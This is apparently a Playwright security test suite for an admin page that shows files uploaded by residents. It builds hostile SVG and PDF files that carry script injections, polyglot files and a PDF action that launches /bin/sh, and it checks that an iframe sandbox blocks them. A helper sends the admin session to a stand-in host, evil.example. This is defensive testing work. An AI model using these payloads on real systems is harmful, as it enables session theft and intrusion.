/** Proofs are files that residents send. Each attack here is tried in the window in which an admin looks at one. */
import type { Locator, Page } from "@playwright/test";
import { pressAction } from "./kit/head.ts";
import { expect, test } from "./kit/palier.ts";

// Sandboxed files whose scripts are refused are what is tried.
test.use({ mayReport: /./ });

const tie = { id: 8, path: "/admin/user/ula/8" };
/** A host that no page of ours ever asks for. */
const foreign = "https://evil.example";

/** Leaves a mark wherever it can: the page around it, its storage, its address, another host. */
const reach = (name: string): string =>
  [
    `try { parent.document.documentElement.dataset.attacked = "${name}" } catch {}`,
    `try { localStorage.setItem("attacked", "${name}") } catch {}`,
    `try { fetch("/api/admin/session").then((a) => a.text()).then((t) => fetch("${foreign}/?" + t)) } catch {}`,
    `try { top.location = "${foreign}/top" } catch {}`,
    `try { alert("${name}") } catch {}`,
  ].join(";");

const svg = (inner: string, attributes = ""): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48" ${attributes}>${inner}<rect width="64" height="48"/></svg>`;
const inXml = (script: string): string => `<script><![CDATA[${script}]]></script>`;
const inAttribute = (script: string): string => script.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const html = (script: string): string => `<!doctype html><title>x</title><body><script>${script}</script>`;

const pdf = (catalog: string, page = ""): string => `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${page}>>endobj
trailer<</Root 1 0 R>>
`;

interface Attack {
  readonly name: string;
  readonly type: "image/svg+xml" | "application/pdf";
  readonly body: string;
}
const picture = (name: string, body: string): Attack => ({ name, type: "image/svg+xml", body });
const document = (name: string, body: string): Attack => ({ name, type: "application/pdf", body });

/** Files that run script where nothing stops them. */
const running: readonly Attack[] = [
  picture("script in a picture", svg(inXml(reach("script")))),
  picture("a handler of a picture", svg("", `onload="${inAttribute(reach("onload"))}"`)),
  picture(
    "a page within a picture",
    svg(
      `<foreignObject width="64" height="48"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${inAttribute(
        html(reach("foreignObject").replaceAll("parent.", "parent.parent.")).replaceAll("<", "&lt;"),
      ).replaceAll("&amp;lt;", "&lt;")}"/></foreignObject>`,
    ),
  ),
  picture(
    "a page that is said to be a picture",
    `<html xmlns="http://www.w3.org/1999/xhtml"><body>${inXml(reach("xhtml"))}</body></html>`,
  ),
];

/** Files that ask another host, or act in a reader of documents. */
const others: readonly Attack[] = [
  picture(
    "a picture of another host",
    svg(
      `<image href="${foreign}/image.png" width="9" height="9"/><use xlink:href="${foreign}/use.svg#a"/><style>@import url("${foreign}/style.css"); rect { fill: url("${foreign}/fill.svg#a") }</style>`,
    ),
  ),
  document("a page that is said to be a document", html(reach("html"))),
  document("a page behind a document's first bytes", `%PDF-1.4\n${html(reach("polyglot"))}`),
  document(
    "a document with script",
    pdf(`/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${foreign}/js"\\);)>>`),
  ),
  document(
    "a document that opens an address",
    pdf(`/OpenAction<</S/URI/URI(${foreign}/open)>>`, `/AA<</O<</S/URI/URI(${foreign}/page)>>>>`),
  ),
  document("a document that starts a program", pdf("/OpenAction<</S/Launch/F(/bin/sh)>>")),
];

/** Serves an attack as every file; `headers` are those of the mock server, or none at all. */
async function serve(page: Page, { type, body }: Attack, headers: "ours" | "none"): Promise<void> {
  await page.route("**/api/admin/media/**", async (route) => {
    const real = await route.fetch();
    // What protects a picture: a document's headers lack the sandbox, as no viewer starts in one.
    const policy = real.headers()["content-security-policy"] ?? "";
    await route.fulfill({
      status: 200,
      contentType: type,
      body,
      headers:
        headers === "none" ? {} : { "content-security-policy": policy, "x-content-type-options": "nosniff" },
    });
  });
}

/** What reached the foreign host, and which windows and questions the page opened. */
async function heard(page: Page): Promise<string[]> {
  const all: string[] = [];
  // Only what no policy has stopped gets as far as here.
  await page.context().route(`${foreign}/**`, (route) => {
    all.push(route.request().url());
    return route.abort();
  });
  page.on("dialog", (dialog) => {
    all.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("popup", (popup) => all.push(popup.url()));
  return all;
}

/** Opens the proof, and waits until its file is there and has done what it can. */
async function look(page: Page, { type }: Attack): Promise<Locator> {
  const proof = page.getByRole("dialog", { name: /^Justificatif de / });
  const frame = proof.locator("iframe");
  // Not the address of the frame: a browser without a viewer leaves it empty, and takes the file for a download.
  const file = page.waitForResponse(
    (answer) => answer.url().includes("/admin/media/") && answer.request().resourceType() === "document",
  );
  await pressAction(page, "Voir le justificatif");
  await expect(frame).toBeVisible();
  await file;
  // A browser without a viewer never gets to a document in the frame: it takes it for a download.
  if (type === "image/svg+xml") {
    const inner = await (await frame.elementHandle())?.contentFrame();
    await inner?.waitForLoadState();
  } else await page.waitForLoadState("networkidle");
  return frame;
}

/** The marks that an attack left. */
const marks = (page: Page) =>
  page.evaluate(() => [
    globalThis.document.documentElement.dataset.attacked,
    localStorage.getItem("attacked"),
  ]);

async function goToTie(
  page: Page,
  type: Attack["type"],
  patch: (proof: object) => Promise<unknown>,
): Promise<void> {
  const extension = type === "application/pdf" ? "pdf" : "svg";
  await patch({
    fileName: `justificatif.${extension}`,
    mimeType: type,
    url: `/admin/media/proof-${tie.id}.${extension}`,
    uploadedAt: "2026-11-01T09:00:00Z",
  });
  await page.goto(tie.path);
}

for (const attack of [...running, ...others]) {
  test(`S22 ${attack.name} as a proof runs nothing and asks nobody`, async ({ admin: page, world }) => {
    const all = await heard(page);
    await serve(page, attack, "ours");
    await goToTie(page, attack.type, (proof) => world.patch("ula", tie.id, { proof }));
    await look(page, attack);
    expect(all).toEqual([]);
    expect(await marks(page)).toEqual([undefined, null]);
    await expect(page).toHaveURL(tie.path);
  });
}

for (const attack of running) {
  test(`S22 ${attack.name} is held by the window's sandbox alone, and by nothing without it`, async ({
    admin: page,
    world,
  }) => {
    await page.route(`${foreign}/**`, (route) => route.abort());
    await serve(page, attack, "none");
    await goToTie(page, attack.type, (proof) => world.patch("ula", tie.id, { proof }));
    const frame = await look(page, attack);
    await expect(frame).toHaveAttribute("sandbox", "");
    expect(await marks(page)).toEqual([undefined, null]);
    await expect(page).toHaveURL(tie.path);

    // The proof that the attack is one.
    await frame.evaluate((element: HTMLIFrameElement) => {
      element.removeAttribute("sandbox");
      element.src = `${element.src}?again`;
    });
    await expect.poll(async () => (await marks(page).catch(() => ["left"]))[0]).not.toBe(undefined);
  });
}

test("S22 a picture of another host is asked for where the server sends no policy of its own", async ({
  admin: page,
  world,
}) => {
  const all = await heard(page);
  const attack = others.find(({ name }) => name === "a picture of another host");
  if (attack === undefined) throw new Error("no such attack");
  await serve(page, attack, "none");
  await goToTie(page, attack.type, (proof) => world.patch("ula", tie.id, { proof }));
  await look(page, attack);
  await expect.poll(() => all).toContain(`${foreign}/image.png`);
});
